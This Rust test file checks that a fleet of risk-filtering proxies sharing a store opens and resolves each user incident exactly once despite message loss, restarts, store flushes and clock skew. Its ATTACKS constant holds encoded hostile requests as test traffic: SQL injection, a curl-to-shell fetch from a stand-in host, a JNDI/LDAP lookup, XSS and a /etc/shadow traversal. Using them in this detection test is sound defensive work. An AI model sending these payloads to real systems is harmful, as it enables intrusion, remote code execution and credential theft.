//! Do proxies that share a store come to one result? Whatever is lost, doubled, late or killed: the same code, with time as an argument.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

mod convergence;
mod joining;
mod large;
mod metrics;
mod rollout;
mod simulation;
mod store;
mod time;

use user_risk_filter::fleet::record_copy;

use crate::simulation::{Fleet, Network, id};

const ATTACKS: [&str; 6] = [
    "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--",
    "/run?c=%3Bcurl%20http://x.example/s%7Csh",
    "/log?x=$%7Bjndi:ldap://x.example/a%7D",
    "/say?t=%3Cscript%3Ealert(1)%3C/script%3E",
    "/file?f=../../../../etc/shadow",
    "/a?u=1'%20OR%20'1'='1",
];

const WELL: Network = Network { lost: 0, unanswered: 0, cut: 0, delay: 100 };
const BADLY: Network = Network { lost: 60, unanswered: 60, cut: 60, delay: 700 };

fn opened(fleet: &Fleet) -> u64 {
    fleet.count("user_risk_filter_incidents_opened_total")
}

#[test]
fn a_user_who_attacks_each_proxy_once_is_one_incident_told_once() {
    let mut fleet = Fleet::new(3, 1, WELL, "{}");
    fleet.pass(1000);
    for (proxy, attack) in ATTACKS.iter().enumerate().take(3) {
        fleet.get(proxy, "mallory", attack);
    }
    fleet.pass(5000);
    let kinds: Vec<_> = fleet.received.iter().map(|one| one.kind.as_str()).collect();
    assert_eq!(kinds, ["risk.incident.opened", "risk.incident.updated"], "26 points are in the next band");
    assert_eq!(opened(&fleet), 1);
    for proxy in 0..3 {
        let record = fleet.record(proxy, "mallory").unwrap();
        assert_eq!((record.increase().to_string().as_str(), record.open().is_some()), ("26", true), "proxy {proxy}");
    }
    let stored = record_copy::from_bytes(fleet.store.record(id("mallory")).unwrap()).unwrap().0;
    assert!(!stored.awaits_delivery(), "it is known everywhere that it was sent");
}

#[test]
fn points_that_only_the_fleet_has_together_cross_the_threshold() {
    let mut fleet = Fleet::new(2, 2, WELL, "{}");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(3000);
    assert_eq!(fleet.received, []);
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(3000);
    assert_eq!(fleet.received.len(), 1);
}

#[test]
fn the_same_act_on_two_proxies_counts_by_its_act_and_not_by_its_copies() {
    let mut fleet = Fleet::new(2, 3, WELL, "{}");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(3000);
    fleet.pass(60_000);
    fleet.get(1, "mallory", ATTACKS[3]);
    fleet.pass(3000);
    let before = fleet.record(1, "mallory").unwrap().increase();
    fleet.get(1, "mallory", ATTACKS[0]);
    fleet.pass(3000);
    assert_eq!(fleet.record(1, "mallory").unwrap().increase(), before, "the other proxy had counted it");
}

#[test]
fn the_same_request_on_all_proxies_at_once_counts_once() {
    let mut fleet = Fleet::new(3, 3, WELL, "{}");
    fleet.pass(1000);
    for proxy in 0..3 {
        fleet.get(proxy, "bob", ATTACKS[0]);
    }
    fleet.pass(5000);
    let stored = record_copy::from_bytes(fleet.store.record(id("bob")).unwrap()).unwrap().0;
    assert_eq!(
        (stored.increase().to_string().as_str(), fleet.received.len()),
        ("8", 0),
        "a bookmark is no attack by three"
    );
}

#[test]
fn a_proxy_that_starts_knows_open_incidents_within_two_seconds() {
    let mut fleet = Fleet::new(3, 4, Network::default(), "{}");
    fleet.pass(1000);
    for user in 0..300 {
        fleet.get(0, &format!("u{user}"), ATTACKS[0]);
        fleet.get(1, &format!("u{user}"), ATTACKS[1]);
    }
    fleet.pass(20_000);
    assert_eq!((fleet.openings().len(), opened(&fleet)), (300, 300));
    fleet.restart(2);
    fleet.pass(2000);
    let known =
        (0..300).filter(|user| fleet.record(2, &format!("u{user}")).is_some_and(|record| record.open().is_some()));
    assert_eq!(known.count(), 300);
    fleet.pass(10_000);
    assert_eq!(fleet.received.len(), 300, "nobody is told again");
}

#[test]
fn while_the_store_is_silent_each_proxy_goes_on_and_afterwards_nothing_is_missing() {
    let mut fleet = Fleet::new(2, 5, Network { lost: 1000, ..WELL }, "{}");
    fleet.pass(3000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(0, "mallory", ATTACKS[1]);
    fleet.get(1, "mallory", ATTACKS[2]);
    fleet.pass(1000);
    assert_eq!(fleet.received.len(), 1, "this proxy's own crossing does not wait");
    let said = fleet.proxies[0]
        .lines
        .iter()
        .filter(|line| line["what"].as_str().is_some_and(|what| what.contains("store of the fleet fails")));
    assert_eq!(said.count(), 1);
    fleet.network = WELL;
    fleet.pass(120_000);
    for proxy in 0..2 {
        assert_eq!(fleet.record(proxy, "mallory").unwrap().increase().to_string(), "26", "proxy {proxy}");
    }
    let kinds: Vec<_> = fleet.received.iter().map(|one| one.kind.as_str()).collect();
    assert_eq!(kinds, ["risk.incident.opened", "risk.incident.updated"], "together they are in the next band");
}

#[test]
fn a_crossing_waits_ten_seconds_and_no_longer() {
    let mut fleet = Fleet::new(1, 6, WELL, "{}");
    fleet.pass(1000);
    fleet.network = Network { delay: 1_000_000, ..WELL };
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(0, "mallory", ATTACKS[1]);
    fleet.pass(9500);
    assert_eq!(fleet.received.len(), 0);
    fleet.pass(1000);
    assert_eq!(fleet.received.len(), 1);
}

#[test]
fn what_a_dead_proxy_had_to_send_another_one_sends_under_the_same_id() {
    for seed in 0..8 {
        let mut fleet = Fleet::new(3, 100 + seed, WELL, "{}");
        fleet.pass(1000);
        fleet.get(0, "mallory", ATTACKS[0]);
        fleet.get(0, "mallory", ATTACKS[1]);
        // Killed somewhere between the crossing and the sending.
        fleet.pass(250 * (1 + seed % 4));
        let before = fleet.received.clone();
        fleet.restart(0);
        fleet.pass(60_000);
        let had_told = fleet.store.record(id("mallory")).is_some();
        let openings = fleet.openings();
        assert!(openings.values().all(|ids| ids.len() == 1), "{seed}: {:?}", fleet.received);
        assert!(!had_told || !openings.is_empty(), "{seed}: {before:?}");
    }
}

#[test]
fn what_a_swap_decided_is_logged_once_also_if_its_answer_is_lost() {
    for seed in 0..12 {
        let mut fleet = Fleet::new(3, 200 + seed, Network { unanswered: 400, ..WELL }, "{}");
        fleet.pass(1000);
        for user in 0..8 {
            let user = format!("u{user}");
            fleet.get(0, &user, ATTACKS[0]);
            fleet.get(1, &user, ATTACKS[1]);
            fleet.pass(250 * (seed % 4));
        }
        fleet.pass(60_000);
        fleet.network = WELL;
        fleet.pass(60_000);
        assert_eq!((fleet.openings().len(), opened(&fleet)), (8, 8), "seed {seed}");
    }
}

#[test]
fn a_store_that_forgets_everything_learns_it_again() {
    let mut fleet = Fleet::new(2, 7, WELL, "{}");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(5000);
    fleet.store.flush();
    fleet.pass(150_000);
    assert!(fleet.store.record(id("mallory")).is_some());
    fleet.get(1, "mallory", ATTACKS[2]);
    fleet.pass(5000);
    assert_eq!((fleet.received.len(), fleet.openings().len()), (2, 1), "one opening, one update: {:?}", fleet.received);
    assert_eq!(fleet.record(0, "mallory").unwrap().increase(), fleet.record(1, "mallory").unwrap().increase());
}

/// Whoever asks next after a loss has to notice, however many calls others have made in between.
#[test]
fn a_store_that_loses_its_data_in_a_fleets_first_seconds_is_noticed_by_each_proxy() {
    let mut fleet = Fleet::new(6, 23, WELL, "{}");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    while fleet.store.record(id("mallory")).is_none() {
        fleet.pass(250);
    }
    fleet.store.flush();
    for round in 0..4 {
        for proxy in 1..6 {
            fleet.get(proxy, &format!("user-{proxy}-{round}"), ATTACKS[1]);
        }
        fleet.pass(250);
    }
    fleet.pass(150_000);
    assert!(fleet.store.record(id("mallory")).is_some());
}

/// Neither proxy has an event left to decide on when their copies meet.
#[test]
fn copies_that_cross_only_together_open_an_incident_when_they_meet() {
    let mut fleet = Fleet::new(2, 9, WELL, "{}");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(5000);
    fleet.store.flush();
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(5000);
    assert_eq!(fleet.received.len(), 0);
    fleet.pass(150_000);
    assert_eq!((fleet.received.len(), opened(&fleet)), (1, 1), "{:?}", fleet.received);
}

#[test]
fn the_end_of_an_incident_is_told_once() {
    let mut fleet = Fleet::new(3, 8, WELL, r#"{"risk": {"window": "30s"}}"#);
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.pass(60_000);
    let kinds: Vec<_> = fleet.received.iter().map(|one| one.kind.as_str()).collect();
    assert_eq!(kinds, ["risk.incident.opened", "risk.incident.resolved"]);
    assert!((0..3).all(|proxy| fleet.record(proxy, "mallory").is_none_or(|record| record.open().is_none())));
}

/// A replica that lags becomes the primary: what it lacks the proxies give it again.
#[test]
fn a_replica_that_lags_learns_what_it_missed_and_nobody_is_told_twice() {
    let mut fleet = Fleet::new(3, 10, WELL, "{}");
    fleet.pass(1000);
    fleet.get(0, "mallory", ATTACKS[0]);
    fleet.pass(5000);
    let replica = fleet.store.clone();
    fleet.get(1, "mallory", ATTACKS[1]);
    fleet.get(2, "eve", ATTACKS[2]);
    fleet.pass(10_000);
    fleet.store.refuses = Some("READONLY You can't write against a read only replica.");
    fleet.pass(10_000);
    fleet.store = replica;
    fleet.pass(250_000);
    let stored = |user| record_copy::from_bytes(fleet.store.record(id(user)).unwrap()).unwrap().0;
    assert_eq!(
        (stored("mallory").increase().to_string(), stored("eve").increase().to_string()),
        ("16".into(), "10".into())
    );
    assert_eq!((fleet.received.len(), opened(&fleet)), (1, 1), "{:?}", fleet.received);
    let advice = |line: &serde_json::Value| line["what"].to_string().contains("primary");
    assert!(fleet.proxies.iter().any(|proxy| proxy.lines.iter().any(advice)));
}

#[test]
fn wrong_clocks_lose_no_point_and_are_said() {
    for skew in [-600_000, 600_000] {
        let mut fleet = Fleet::new(3, 11, WELL, "{}");
        fleet.proxies[1].skew = skew;
        fleet.pass(1000);
        for (proxy, attack) in ATTACKS.iter().enumerate().take(3) {
            fleet.get(proxy, "mallory", attack);
            fleet.pass(5000);
        }
        let points: Vec<_> =
            (0..3).map(|proxy| fleet.record(proxy, "mallory").unwrap().increase().to_string()).collect();
        assert_eq!((points, opened(&fleet)), (vec!["26".to_owned(); 3], 1), "{skew}");
        let is_said =
            |proxy: usize| fleet.proxies[proxy].lines.iter().any(|line| line["what"].to_string().contains("clock"));
        assert_eq!([0, 1, 2].map(is_said), [false, true, false], "{skew}");
    }
}
